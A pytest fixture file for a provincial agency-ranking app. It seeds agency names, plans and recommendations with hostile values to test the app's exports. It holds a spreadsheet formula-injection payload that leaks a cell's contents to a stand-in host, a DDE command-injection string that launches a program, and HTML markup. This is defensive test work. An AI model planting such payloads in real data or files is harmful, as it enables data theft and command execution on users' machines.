"""A province whose data is hostile: names and comments that are formulas and markup.

Agency A's name is a live Excel formula; agency B's name carries an apostrophe, an
ampersand and angle brackets, and B's rows are marked illustrative (the screen badges
them). Every export of the product is fed these rows.
"""

import datetime
from decimal import Decimal

import pytest

from indicators.models import Criterion, IndexResult, PublishedEdition, ServiceIndexScore
from indicators.scoring import band_of
from tests.factories import (
    FrameworkFactory,
    PlanFactory,
    ProcedureStatFactory,
    RecommendationFactory,
    VisitFactory,
    make_standard_bands,
)

FORMULA = '=HYPERLINK("http://x/?leak="&B2,"Bấm xem")'
MARKUP = "Sở O'Brien & <b>Tư pháp</b>"
COMMENT = '@SUM(1+1)*cmd|" /C calc"!A0'


@pytest.fixture
def hostile(province, dept_group, agency_a, agency_b, noivu_staff):
    agency_a.name = FORMULA
    agency_a.save()
    agency_b.name, agency_b.is_illustrative = MARKUP, True
    agency_b.save()
    framework = FrameworkFactory(group=dept_group, province=province, year=2024)
    make_standard_bands(framework)
    Criterion.objects.create(
        framework=framework,
        level=Criterion.Level.FIELD,
        code="5",
        name="Cải cách tài chính công",
        max_points=Decimal("10"),
        order=5,
    )
    for rank, (agency, index) in enumerate(
        [(agency_a, Decimal("90.625")), (agency_b, Decimal("80.125"))], start=1
    ):
        IndexResult.objects.create(
            framework=framework,
            agency=agency,
            index_pct=index,
            band=band_of(index, [b.rule for b in framework.bands.all()]),
            rank=rank,
            group_size=2,
            previous_rank=3 - rank,
            previous_index_pct=index - 1,
            rank_change=(3 - rank) - rank,
            components={"5": {"pct": str(index)}},
        )
    ProcedureStatFactory(agency=agency_a, year=2024, received_new=10, resolved_on_time=5)
    ProcedureStatFactory(
        agency=agency_b, year=2024, received_new=10, resolved_on_time=5, is_illustrative=True
    )
    for agency in (agency_a, agency_b):
        ServiceIndexScore.objects.create(
            province=province,
            agency=agency,
            group=dept_group,
            period_type="quarter",
            period_start=datetime.date(2024, 4, 1),
            period_end=datetime.date(2024, 6, 30),
            transparency=Decimal("18"),
            progress=Decimal("20"),
            online_service=Decimal("12"),
            online_payment=Decimal("10"),
            satisfaction=Decimal("18"),
            digitisation=Decimal("12.5"),
            total=Decimal("90.5"),
            band="Xuất sắc",
            rank=1,
            group_size=2,
        )
    plan = PlanFactory(province=province, subject=COMMENT, issuer=FORMULA, created_by=noivu_staff)
    visit = VisitFactory(plan=plan, lead_name=FORMULA, conclusion_no=COMMENT)
    visit.agencies.set([agency_a, agency_b])
    RecommendationFactory(visit=visit, addressee=agency_a, text=COMMENT)
    RecommendationFactory(visit=visit, addressee=agency_b, text=MARKUP)
    return framework


@pytest.fixture
def hostile_edition(hostile):
    """A published edition whose decision number has a slash (an illegal sheet title)."""
    return PublishedEdition.objects.create(
        framework=hostile,
        decision_no="3323/QĐ-UBND",
        decision_date=datetime.date(2025, 2, 14),
        content={
            "results": [
                {"rank": 1, "agency": FORMULA, "index_pct": "90.625", "band": "Xuất sắc"},
                {"rank": 2, "agency": MARKUP, "index_pct": "80.125", "band": "Tốt"},
            ]
        },
        content_hash="0" * 64,
    )
